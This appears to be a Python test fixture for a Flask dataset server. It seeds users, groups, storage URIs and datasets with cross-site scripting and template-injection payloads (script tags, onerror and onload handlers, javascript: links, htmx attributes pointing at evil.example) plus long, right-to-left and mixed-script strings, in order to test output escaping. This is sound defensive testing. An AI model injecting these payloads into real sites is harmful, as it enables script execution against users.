"""Users, places and datasets whose every field tries to break a page, or has a page run what somebody wrote there."""

from __future__ import annotations

import json
from typing import Any

from flask import Flask

from dservercore import sql_db
from dservercore.auth.permissions import operator_scope
from dservercore.catalog import base_uris, groups, passwords, registration, sessions, users
from dservercore.catalog.scope import OPERATOR
from support.world import ADMIN, CHAMPION, NOBODY, READER, dataset_info

PASSWORD = "five tall ships at sea"

#: Leaves a trace in ``window.__hit`` or opens a dialog, wherever a page takes it for more than text.
INJECTED = [
    "<script>window.__hit=1</script>",
    "\"><img src=x onerror='window.__hit=2'>",
    "' onmouseover='window.__hit=3' autofocus onfocus='window.__hit=3' x='",
    "</title></textarea></script></style><svg onload=alert(4)>",
    "javascript:window.__hit=5//",
    "{{ 7 * 191 }}{% raw %}${window.__hit=6}",
    "<a href=javascript:alert(7)>x</a><iframe srcdoc='<script>parent.__hit=7</script>'></iframe>",
    '[x](javascript:alert(8)) ![x](x"onerror="alert(8)) <javascript:alert(8)> `</code><script>alert(8)</script>`',
    "<form action=//evil.example><button formaction=javascript:alert(9)>",
    '<div hx-get="//evil.example" hx-trigger="load" hx-on:load="alert(10)" data-copy>',
    "&lt;script&gt;window.__hit=11&lt;/script&gt; &amp;quot; &#x22;",
]
LONG = "unbroken" * 37
RTL = "مجموعة بيانات عن النباتات \u202e(txt.exe)\u202c עברית"
MANY_SCRIPTS = "データセット 数据集 데이터 ชุดข้อมูล डेटासेट 🧬 ﷽ Z̷͑̓a̸͝l̵g̴o̶"
TEXTS = [*INJECTED, LONG, RTL, MANY_SCRIPTS]
EVERYTHING = " ".join(TEXTS)

#: Which have no slash, as names do.
USER = "<img src=x onerror=alert(1)>\"'&"
LONG_USER = "w" * 64
RTL_USER = "مستخدم<b>"
GROUP = "<svg onload=alert(2)>\"'"
BASE_URI = "s3://<script>window.__hit=12<!-- \"'&"
LONG_BASE_URI = f"s3://{'bucket' * 30}"
UUID = "0f0f0f0f-0000-4000-8000-000000000001"
URI = f"{BASE_URI}/{UUID}"


def populate(app: Flask) -> None:
    """Put them into the database of an application; the people of tests may see all of it."""
    with app.app_context():
        users.add_user(ADMIN, is_admin=True, display_name=f"{INJECTED[1]} Ada")
        users.add_user(CHAMPION, display_name=LONG[:200])
        users.add_user(READER, display_name=RTL.translate({0x202E: None, 0x202C: None}))
        users.add_user(LONG_USER, is_admin=True)
        for name in (NOBODY, USER, RTL_USER):
            users.add_user(name)
        groups.add_group(GROUP)
        readers = [ADMIN, CHAMPION, READER, USER, LONG_USER]
        for base_uri in (BASE_URI, LONG_BASE_URI):
            base_uris.create_base_uri(base_uri, readers, [ADMIN, CHAMPION], public=base_uri == BASE_URI)
        passwords.set_password(ADMIN, PASSWORD)
        for agent in (*INJECTED[:2], LONG):
            sessions.begin(CHAMPION, "link", sessions.Client("192.0.2.7", agent))
        for number, text in enumerate(TEXTS, start=1):
            scope = operator_scope("register")
            base_uri = LONG_BASE_URI if number % 3 == 0 else BASE_URI
            registration.register_dataset(OPERATOR, scope, _dataset(number, text, base_uri))
        # The same dataset in another place.
        registration.register_dataset(OPERATOR, operator_scope("register"), _dataset(1, LONG, LONG_BASE_URI))
        sql_db.session.commit()


def _dataset(number: int, text: str, base_uri: str) -> dict[str, Any]:
    name = text[:80] if number != 12 else "x" * 80
    paths = [text, f"<b>/{text}/{text}", f"{LONG}/{LONG}", "__proto__/constructor", f"{number}.txt"]
    items = {
        f"{place:040x}": {
            "relpath": path[:1000],
            "hash": text[:60],
            "size_in_bytes": 10**place,
            "utc_timestamp": 1.5e9,
        }
        for place, path in enumerate(paths)
    }
    annotations = {"text": text, "object": {text: [text, {"a": None}]}, "l" * 80: [[1, 2], [3]], "none": None}
    return dataset_info(
        base_uri,
        uuid=f"{UUID[:-3]}{number:03}",
        name=name,
        creator_username=text[:255],
        readme="---\n"
        + json.dumps({"description": text, text: text, "link": INJECTED[4], "list": [text, {}]}),
        manifest={"dtoolcore_version": "3.19.0", "hash_function": text, "items": items},
        annotations=annotations,
        tags=["t" * 80, "__proto__", "-", f"tag{number}"],
        number_of_items=len(items),
        frozen_at=253402300799.0 if number == 2 else 1536238185.0 + number,
    )
